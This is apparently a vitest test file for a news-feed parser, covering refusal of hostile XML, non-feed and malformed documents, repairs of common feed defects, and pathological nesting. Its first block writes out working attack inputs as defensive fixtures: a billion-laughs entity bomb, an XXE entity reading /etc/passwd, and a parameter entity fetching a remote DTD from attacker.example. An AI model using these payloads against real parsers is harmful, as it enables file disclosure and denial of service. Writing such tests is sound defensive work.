import { describe, expect, it } from "vitest";
import { FeedParseError, parseFeedDocument } from "../../src/ingest/feed";

const URL_ = "https://example.org/feed.xml";

function failure(body: string, options?: { minBodyBytes?: number }): FeedParseError {
  try {
    parseFeedDocument(body, URL_, options);
  } catch (err) {
    expect(err).toBeInstanceOf(FeedParseError);
    return err as FeedParseError;
  }
  throw new Error("expected a FeedParseError");
}

const item = (n: number) => `<item><title>Story ${n}</title><link>https://example.org/s/${n}</link></item>`;
const rss = (items: string) =>
  `<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>T</title><link>https://example.org/</link>${items}</channel></rss>`;

describe("hostile XML is refused before any entity is expanded", () => {
  it("refuses a billion-laughs entity bomb before expanding it", () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("\n");
    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n<rss version="2.0"><channel><title>&lol9;</title>${item(1)}</channel></rss>`;
    const err = failure(bomb);
    expect(err.kind).toBe("refused");
    expect(err.message).toBe("refused: the feed declares a DOCTYPE with entities (possible entity-expansion attack)");
  });

  it("refuses an external entity and names it, without reading it", () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<rss version="2.0"><channel><title>&xxe;</title>${item(1)}</channel></rss>`;
    const err = failure(xxe);
    expect(err.kind).toBe("refused");
    expect(err.message).toBe(
      'refused: the feed declares an external entity (SYSTEM "file:///etc/passwd"); external entities are never loaded',
    );
  });

  it("refuses a parameter entity pulling in a remote DTD", () => {
    const doc = `<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>`;
    expect(failure(doc).message).toContain('external entity (SYSTEM "http://attacker.example/x.dtd")');
  });

  it("accepts a DOCTYPE without entity declarations (RSS 0.91), decoding HTML entities it relies on", () => {
    const doc = `<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel><title>Caf&eacute;</title><link>https://example.org/</link><item><title>Caf&eacute; &amp; bar&nbsp;news</title><link>https://example.org/a</link></item></channel></rss>`;
    const feed = parseFeedDocument(doc, URL_);
    expect(feed.title).toBe("Café");
    expect(feed.entries[0]!.title).toBe("Café & bar news");
  });
});

describe("documents that are not feeds", () => {
  it("says an HTML page is HTML", () => {
    const err = failure(
      `<!DOCTYPE html>\n<html lang="en"><head><title>Just a moment...</title></head><body><p>Checking your browser</body></html>`,
    );
    expect(err.kind).toBe("html");
    expect(err.message).toBe("not a feed: the document is HTML (<html> root)");
    const xhtml = failure(
      `<?xml version="1.0" encoding="utf-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${"<p>padding</p>".repeat(5)}</body></html>`,
    );
    expect(xhtml.message).toBe("not a feed: the document is HTML (<html> root)");
  });

  it("names an XML root that is not a feed", () => {
    const err = failure(
      `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://example.org/</loc></url></urlset>`,
    );
    expect(err.kind).toBe("not-a-feed");
    expect(err.message).toBe("not a feed: the XML root element is <urlset> (a feed has <rss>, <rdf:RDF> or <feed>)");
  });

  it("says when a document is neither XML nor JSON", () => {
    const err = failure("Service temporarily unavailable. Please try again later, or contact the administrator.");
    expect(err.kind).toBe("not-a-feed");
    expect(err.message).toBe(
      'not a feed: the document is neither XML nor JSON (it starts with "Service temporarily unavailable. Please…")',
    );
  });

  it("refuses an empty body and a body of whitespace", () => {
    expect(failure("").message).toBe("the feed answered with an empty body");
    expect(failure("  \n\t ").kind).toBe("empty");
  });

  it("refuses a tiny 200 (RFE/RL answered 11 bytes) even when it is well-formed", () => {
    const err = failure("<rss></rss>");
    expect(err.kind).toBe("too-small");
    expect(err.message).toMatch(
      /^the feed answered with only 11 bytes \("<rss><\/rss>"\), fewer than the 64 a feed needs$/,
    );
    // Bytes, not characters: 30 Cyrillic letters are 60 bytes.
    expect(failure("я".repeat(30)).message).toMatch(/only 60 bytes/);
    // The threshold is the source's.
    expect(() => parseFeedDocument("<rss></rss>", URL_, { minBodyBytes: 0 })).not.toThrow();
    expect(parseFeedDocument("<rss></rss>", URL_, { minBodyBytes: 0 }).entries).toEqual([]);
  });
});

describe("malformed XML", () => {
  it("reports a truncated feed with the elements left open", () => {
    const truncated = rss(item(1) + item(2)).slice(0, -"</item></channel></rss>".length);
    const err = failure(truncated);
    expect(err.kind).toBe("malformed");
    expect(err.message).toBe(
      "XML is not well formed: the document ends before <rss>, <channel>, <item> are closed (truncated?)",
    );
  });

  it("names the line of a mismatched tag", () => {
    const doc = `<?xml version="1.0"?>\n<rss version="2.0">\n<channel><title>x</item>\n</channel></rss>`;
    const err = failure(doc);
    expect(err.kind).toBe("malformed");
    expect(err.message).toMatch(/^XML is not well formed: line 3, column \d+: Expected closing tag 'title'/);
  });

  it("reports a truncated attribute", () => {
    const err = failure(
      `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><title>a</title><enclosure url="https://example.org/a.jpg`,
    );
    expect(err.kind).toBe("malformed");
    expect(err.message).toMatch(/^XML is not well formed: /);
  });

  it("reports invalid JSON", () => {
    const err = failure(`{"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": [ {"id": "1", `);
    expect(err.kind).toBe("malformed");
    expect(err.message).toMatch(/^JSON is not valid: /);
  });

  it("refuses JSON that is not a JSON Feed", () => {
    expect(failure(`{"error": "rate limited", "retry_after": 30, "message": "slow down please"}`).message).toBe(
      "not a feed: JSON without a JSON Feed version or items",
    );
    expect(failure(`{"version": "https://example.org/v2", "items": [], "title": "some other json"}`).message).toContain(
      "not a JSON Feed version URL",
    );
  });
});

describe("real-world repairs", () => {
  it("reads a feed that starts with a byte-order mark and blank lines", () => {
    const feed = parseFeedDocument(`\uFEFF\n\n${rss(item(1))}`, URL_);
    expect(feed.entries.map((e) => e.title)).toEqual(["Story 1"]);
  });

  it("repairs bare ampersands outside CDATA and leaves CDATA alone", () => {
    const doc = rss(
      `<item><title>AT&T and R&D</title><link>https://example.org/a?x=1&y=2</link><description><![CDATA[<p>Q&amp;A &copy; 1 & 2</p>]]></description></item>`,
    );
    const [entry] = parseFeedDocument(doc, URL_).entries;
    expect(entry!.title).toBe("AT&T and R&D");
    expect(entry!.url).toBe("https://example.org/a?x=1&y=2");
    expect(entry!.summaryHtml).toBe("<p>Q&amp;A &copy; 1 & 2</p>");
  });

  it("drops control characters XML forbids", () => {
    const [entry] = parseFeedDocument(
      rss(`<item><title>Bad\u000bchar\u0001s</title><link>https://example.org/a</link></item>`),
      URL_,
    ).entries;
    expect(entry!.title).toBe("Badchars");
  });

  it("never throws anything but FeedParseError on mangled input", () => {
    const base = rss(item(1) + item(2) + item(3));
    for (let cut = 1; cut < base.length; cut += 7) {
      for (const body of [base.slice(0, cut), base.slice(cut), `${base.slice(0, cut)}<${base.slice(cut)}`]) {
        try {
          parseFeedDocument(body, URL_);
        } catch (err) {
          expect(err, body).toBeInstanceOf(FeedParseError);
        }
      }
    }
  });
});

describe("pathological but well-formed input", () => {
  it("refuses nesting deeper than any feed needs, without a stack overflow", () => {
    const deep = `<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>x</title><link>https://example.org/x</link><description>${"<div>".repeat(5000)}${"</div>".repeat(5000)}</description></item></channel></rss>`;
    const err = failure(deep);
    expect(err.kind).toBe("malformed");
    expect(err.message).toMatch(/^XML is not well formed: /);
  });

  it("reads deeply nested JSON without crashing: a nested array is no item", () => {
    const deep = `{"version":"https://jsonfeed.org/version/1.1","items":[${"[".repeat(100000)}${"]".repeat(100000)}]}`;
    expect(parseFeedDocument(deep, URL_).entries).toEqual([]);
  });
});
